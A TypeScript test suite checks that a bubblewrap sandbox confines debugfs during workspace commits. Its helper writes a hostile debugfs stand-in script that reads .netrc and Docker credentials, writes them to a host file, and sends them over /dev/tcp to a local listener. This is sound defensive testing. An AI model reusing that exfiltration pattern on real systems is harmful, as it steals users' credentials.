import {expect} from 'chai'
import {execFileSync, spawn} from 'node:child_process'
import {createHash} from 'node:crypto'
import {
  chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync,
} from 'node:fs'
import {createServer, type Server} from 'node:net'
import path from 'node:path'

import {type CommitOptions, type CommitResult, commitWorkspace} from '../../../src/lib/commit.js'
import {DebugfsSession} from '../../../src/lib/extractor/debugfs-session.js'
import {findDebugfs} from '../../../src/lib/extractor/e2fsprogs.js'
import {
  CONFINED_DISK, openSandbox, parseSandboxMode, Sandbox,
} from '../../../src/lib/extractor/sandbox.js'
import {rejection} from '../../helpers/assert.js'
import {buildExt4, dirtyImage, tempDir} from '../../helpers/ext4.js'
import {blobFile} from '../../helpers/oci.js'
import {addWorkspace, makeStateDir, runtimeRecord} from '../../helpers/state.js'
import {requireTools} from '../../helpers/tools.js'

const CREATED = new Date('2026-01-01T00:00:00Z')
const SECRET = 'sandbox-test-secret-4f1c9a'
const sha = (file: string): string => createHash('sha256').update(readFileSync(file)).digest('hex')
const sleep = (ms: number): Promise<void> => new Promise(resolve => {
  setTimeout(resolve, ms)
})

/** A TCP listener on 127.0.0.1 that records every connection and the bytes sent on it. */
async function listen(): Promise<{connections: number; port: number; received: () => string; server: Server}> {
  const chunks: Buffer[] = []
  const state = {connections: 0}
  const server = createServer(socket => {
    state.connections++
    socket.on('data', chunk => chunks.push(chunk))
    socket.on('error', () => {})
  })
  await new Promise<void>(resolve => {
    server.listen(0, '127.0.0.1', resolve)
  })
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return {
    get connections() {
      return state.connections
    },
    port: address.port,
    received: () => Buffer.concat(chunks).toString(),
    server,
  }
}

interface Hostile {
  /** Where the stand-in tries to write, outside its view. */
  escaped: string
  /** The stand-in for debugfs. */
  script: string
}

/**
 * A hostile stand-in for debugfs: it reads the secrets under the fake $HOME and $DOCKER_CONFIG (by variable
 * and by absolute path), writes them to a host file outside its view, appends to the workspace disk, sends
 * them to the listener on 127.0.0.1, then runs the real debugfs with its arguments. Every attempt is silent
 * (stderr closed for it): debugfs's stderr is its verdict, and a confined attempt fails.
 */
function hostileDebugfs(dir: string, options: {docker: string; home: string; port: number; rootfs?: string}): Hostile {
  const escaped = path.join(dir, 'escaped')
  const script = path.join(dir, 'hostile-debugfs')
  const lines = [
    '#!/bin/bash',
    '{',
    `  secret="$(cat "$HOME/.netrc" "$DOCKER_CONFIG/config.json" ${JSON.stringify(path.join(options.home, '.netrc'))} ${JSON.stringify(path.join(options.docker, 'config.json'))})"`,
    `  printf '%s\\n' "$secret" > ${JSON.stringify(escaped)}`,
    ...(options.rootfs ? [`  printf 'pwned' >> ${JSON.stringify(options.rootfs)}`] : []),
    `  (printf '%s\\n' "$secret" > /dev/tcp/127.0.0.1/${options.port})`,
    '} 2>&-',
    `exec ${JSON.stringify(realpathSync(process.env.DEBUGFS_FOR_TESTS ?? '/usr/sbin/debugfs'))} "$@"`,
    '',
  ]
  writeFileSync(script, lines.join('\n'))
  chmodSync(script, 0o755)
  return {escaped, script}
}

/** A stopped workspace over a copy of `image`, and the state dir. */
function workspace(image: string): {rootfs: string; state: string} {
  const state = makeStateDir()
  const rootfs = addWorkspace(state, 'ws', {manifest: {name: 'ws'}, rootfs: image, runtime: runtimeRecord('stopped')})
  return {rootfs, state}
}

async function commit(image: string, options: Partial<CommitOptions>): Promise<CommitResult & {rootfs: string}> {
  const {rootfs, state} = workspace(image)
  const result = await commitWorkspace({
    created: CREATED, reference: 'local/ws:v1', stateDir: state, workspace: 'ws', ...options,
  })
  return {...result, rootfs}
}

function smallImage(): string {
  return buildExt4(path.join(tempDir(), 'small.ext4'), {
    tree(root) {
      mkdirSync(path.join(root, 'etc'))
      writeFileSync(path.join(root, 'etc', 'os-release'), 'ID=test\n')
      writeFileSync(path.join(root, 'big'), Buffer.alloc(300_000, 0x61))
    },
  })
}

/** Gives a connection that arrived late the time to show up. */
const settle = (): Promise<void> => new Promise(resolve => {
  setTimeout(resolve, 300)
})

describe('sandbox: debugfs confined by bubblewrap', () => {
  let home: string
  let docker: string
  const saved = {docker: process.env.DOCKER_CONFIG, home: process.env.HOME}

  before(async function () {
    requireTools(this, 'debugfs', 'mke2fs', 'bwrap')
    const sandbox = await openSandbox({mode: 'auto'})
    if (!sandbox.confined) {
      // In CI bubblewrap must work (.ci/run installs it); elsewhere say why the suite cannot run.
      if (process.env.CI) throw new Error(`bubblewrap cannot confine here: ${sandbox.status.reason}`)
      console.warn(`\n  !!! SKIPPED: ${sandbox.status.reason}\n`)

      this.skip()
    }

    process.env.DEBUGFS_FOR_TESTS = await findDebugfs()
    const fake = tempDir('plugin-image-fakehome-')
    home = path.join(fake, 'home')
    docker = path.join(fake, 'docker')
    mkdirSync(home)
    mkdirSync(docker)
    writeFileSync(path.join(home, '.netrc'), `machine example.com login me password ${SECRET}\n`)
    writeFileSync(path.join(docker, 'config.json'), JSON.stringify({auths: {'example.com': {auth: SECRET}}}))
    process.env.HOME = home
    process.env.DOCKER_CONFIG = docker
  })

  after(() => {
    for (const [key, value] of [['HOME', saved.home], ['DOCKER_CONFIG', saved.docker]] as const) {
      if (value === undefined) delete process.env[key]
      else process.env[key] = value
    }
  })

  it('keeps a hostile debugfs from the home folder, the host files and the network, and still commits the same layer', async () => {
    const image = smallImage()
    const listener = await listen()
    try {
      const dir = tempDir('plugin-image-hostile-')
      const hostile = hostileDebugfs(dir, {docker, home, port: listener.port})
      const reference = await commit(image, {sandbox: 'off'})
      const confined = await commit(image, {debugfs: hostile.script, sandbox: 'auto'})
      await settle()
      expect(confined.sandbox).to.deep.equal({confined: true, mode: 'auto'})
      expect(confined.diff_id).to.equal(reference.diff_id)
      expect(confined.layer_digest).to.equal(reference.layer_digest)
      expect(existsSync(hostile.escaped), 'host file written').to.equal(false)
      expect(listener.connections, 'connections to 127.0.0.1').to.equal(0)
      expect(readFileSync(blobFile(confined.layout_path, confined.layer_digest)).includes(SECRET)).to.equal(false)
    } finally {
      listener.server.close()
    }
  })

  it('lets the same stand-in escape with --sandbox off (the test can fail)', async () => {
    const image = smallImage()
    const listener = await listen()
    try {
      const hostile = hostileDebugfs(tempDir('plugin-image-hostile-'), {docker, home, port: listener.port})
      const result = await commit(image, {debugfs: hostile.script, sandbox: 'off'})
      await settle()
      expect(result.sandbox).to.deep.equal({confined: false, mode: 'off'})
      expect(readFileSync(hostile.escaped, 'utf8')).to.contain(SECRET)
      expect(listener.connections).to.be.greaterThan(0)
      expect(listener.received()).to.contain(SECRET)
    } finally {
      listener.server.close()
    }
  })

  it('confines the journal replay too: only the private copy is writable, the workspace disk stays as it was', async () => {
    const {file} = dirtyImage()
    const listener = await listen()
    try {
      const reference = await commit(file, {sandbox: 'off'})
      expect(reference.journal_replayed).to.equal(true)
      const {rootfs, state} = workspace(file)
      const before = sha(rootfs)
      const hostile = hostileDebugfs(tempDir('plugin-image-hostile-'), {
        docker, home, port: listener.port, rootfs,
      })
      const confined = await commitWorkspace({
        created: CREATED, debugfs: hostile.script, reference: 'local/ws:v1', sandbox: 'require', stateDir: state, workspace: 'ws',
      })
      await settle()
      expect(confined.journal_replayed).to.equal(true)
      expect(confined.sandbox.confined).to.equal(true)
      expect(confined.diff_id).to.equal(reference.diff_id)
      expect(sha(rootfs)).to.equal(before)
      expect(existsSync(hostile.escaped)).to.equal(false)
      expect(listener.connections).to.equal(0)
      // The private copy is gone.
      expect(readdirSync(path.join(state, 'images', 'oci', 'ingest')).filter(name => name.endsWith('.ext4'))).to.deep.equal([])
    } finally {
      listener.server.close()
    }
  })

  it('runs the tool with no privileges to gain, no capabilities, no environment but what is set, and no /home, /tmp, /proc or /etc but the loader cache', () => {
    const sandboxOn = new Sandbox({confined: true, mode: 'auto'})
    const disk = path.join(tempDir(), 'disk.img')
    writeFileSync(disk, 'disk bytes')
    const python = [
      'import ctypes, os, sys',
      'libc = ctypes.CDLL(None)',
      'caps = [c for c in range(64) if libc.prctl(23, c, 0, 0, 0) == 1]',
      'etc = sorted(os.listdir("/etc")) if os.path.isdir("/etc") else []',
      'print(libc.prctl(39, 0, 0, 0, 0), caps, sorted(os.environ), sorted(os.listdir("/")), etc, open(sys.argv[1]).read())',
      'try:',
      '    open(sys.argv[1], "a").write("x")',
      'except OSError as e:',
      '    print("write:", e.errno)',
    ].join('\n')
    const invocation = sandboxOn.invocation({
      args: inside => ['-c', python, inside], disk, env: {LANG: 'C.UTF-8'}, tool: '/usr/bin/python3',
    })
    const out = execFileSync(invocation.file, invocation.args, {encoding: 'utf8', env: {...process.env, SECRET_VAR: SECRET}})
    const [first, second] = out.trim().split('\n')
    const dirs = readdirSync('/').filter(name => ['bin', 'lib', 'lib32', 'lib64', 'libx32', 'sbin', 'usr'].includes(name))
    // bwrap sets PWD for --chdir.
    const cache = existsSync('/etc/ld.so.cache')
    const top = [...dirs, 'disk', ...(cache ? ['etc'] : [])].sort().map(d => `'${d}'`).join(', ')
    expect(first).to.equal(`1 [] ['LANG', 'PATH', 'PWD'] [${top}] [${cache ? "'ld.so.cache'" : ''}] disk bytes`)
    expect(second).to.equal('write: 30') // EROFS: the disk is bound read-only
    expect(invocation.args).to.include.members(['--unshare-all', '--die-with-parent', '--new-session', '--clearenv'])
    expect(invocation.args.join(' ')).to.contain('--cap-drop ALL').and.contain(`--ro-bind ${disk} ${CONFINED_DISK}`)
    const writable = sandboxOn.invocation({
      args: () => [], disk, env: {}, tool: 'true', writable: true,
    })
    expect(writable.args.join(' ')).to.contain(`--bind ${disk} ${CONFINED_DISK}`)
  })

  it('closes a confined session terminated as it starts, under load, and leaves no process behind', async function () {
    this.timeout(180_000)
    const image = smallImage()
    const sandbox = new Sandbox({confined: true, mode: 'auto'})
    // Load widens the moment in which bubblewrap is still setting up its sandbox: killed then, it left the
    // sandbox's init behind, orphaned and holding the session's pipes, so that close() never returned. That
    // happened to about one session in 70 here: 300 of them catch it all but once in a hundred runs.
    const busy = [1, 2].map(() => spawn('sh', ['-c', 'while :; do :; done'], {stdio: 'ignore'}))
    try {
      for (let i = 0; i < 300; i++) {
        const session = DebugfsSession.open(process.env.DEBUGFS_FOR_TESTS!, image, {sandbox})
        session.request('stat <2>').catch(() => {})
        session.terminate(new Error('stopped as it starts'))
        const closed = await Promise.race([session.close().then(() => true, () => true), sleep(10_000).then(() => false)])
        expect(closed, `session ${i} closed`).to.equal(true)
      }
    } finally {
      for (const child of busy) child.kill('SIGKILL')
    }

    await sleep(200)
    const left = readdirSync('/proc').filter(pid => /^\d+$/.test(pid)).filter(pid => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(image)
      } catch {
        return false
      }
    })
    expect(left, 'processes still bound to the disk').to.deep.equal([])
  })

  it('kills the confined tool when bwrap is killed (its pid namespace goes with it)', async () => {
    const image = smallImage()
    const invocation = new Sandbox({confined: true, mode: 'auto'}).invocation({
      args: inside => [inside], disk: image, env: {}, tool: process.env.DEBUGFS_FOR_TESTS!,
    })
    const child = spawn(invocation.file, invocation.args, {stdio: ['pipe', 'ignore', 'ignore']})
    const descendants = (pid: number): number[] => {
      const file = `/proc/${pid}/task/${pid}/children`
      const kids = existsSync(file) ? readFileSync(file, 'utf8').trim().split(/\s+/).filter(Boolean).map(Number) : []
      return kids.flatMap(kid => [kid, ...descendants(kid)])
    }

    const exited = new Promise(resolve => {
      child.once('exit', resolve)
    })
    try {
      let inside: number[] = []
      for (let i = 0; i < 50 && inside.length < 2; i++) {
        await new Promise(resolve => {
          setTimeout(resolve, 20)
        })
        inside = descendants(child.pid!)
      }

      expect(inside.length, 'bwrap\'s init and debugfs').to.be.at.least(2)
      child.kill('SIGKILL')
      await exited
      await new Promise(resolve => {
        setTimeout(resolve, 200)
      })
      const alive = inside.filter(pid => existsSync(`/proc/${pid}/stat`) && !readFileSync(`/proc/${pid}/stat`, 'utf8').includes(') Z '))
      expect(alive).to.deep.equal([])
    } finally {
      child.kill('SIGKILL')
    }
  })

  describe('where bubblewrap cannot confine', () => {
    it('require fails before reading, with exit 8 and nothing tagged', async () => {
      const {rootfs, state} = workspace(smallImage())
      const before = sha(rootfs)
      const error = await rejection(commitWorkspace({
        bwrap: '/nonexistent/bwrap', created: CREATED, reference: 'local/ws:v1', sandbox: 'require', stateDir: state, workspace: 'ws',
      }))
      expect(error).to.include({code: 'SANDBOX_UNAVAILABLE', exitCode: 8, kind: 'policy_denied'})
      expect(error.message).to.contain('bubblewrap is not installed')
      expect(error.remediation).to.contain('apt-get install bubblewrap')
      expect(existsSync(path.join(state, 'images', 'oci', 'index.json'))).to.equal(false)
      expect(sha(rootfs)).to.equal(before)
    })

    it('auto runs debugfs unconfined and says why and how to enable it', async () => {
      const result = await commit(smallImage(), {bwrap: '/nonexistent/bwrap', sandbox: 'auto'})
      expect(result.sandbox.confined).to.equal(false)
      expect(result.sandbox.reason).to.contain('bubblewrap is not installed').and.contain('apt-get install bubblewrap')
      .and.contain('kernel.unprivileged_userns_clone').and.contain('user.max_user_namespaces')
    })

    it('auto says so when bwrap is there but namespaces are off (a bwrap that fails as it does then)', async () => {
      const fake = path.join(tempDir(), 'bwrap')
      writeFileSync(fake, '#!/bin/sh\necho "bwrap: No permissions to creating new namespace, likely because the kernel does not allow non-privileged user namespaces." >&2\nexit 1\n')
      chmodSync(fake, 0o755)
      const sandbox = await openSandbox({bwrap: fake, mode: 'auto'})
      expect(sandbox.confined).to.equal(false)
      expect(sandbox.status.reason).to.match(/^bubblewrap cannot create the namespaces it needs here \(bwrap: No permissions to creating new namespace/)
      const error = await rejection(openSandbox({bwrap: fake, mode: 'require'}))
      expect(error).to.include({exitCode: 8})
    })

    it('off never probes and never confines', async () => {
      const sandbox = await openSandbox({bwrap: '/nonexistent/bwrap', mode: 'off'})
      expect(sandbox.status).to.deep.equal({confined: false, mode: 'off'})
      expect(() => parseSandboxMode('sometimes')).to.throw(/unknown sandbox mode/)
    })
  })
})
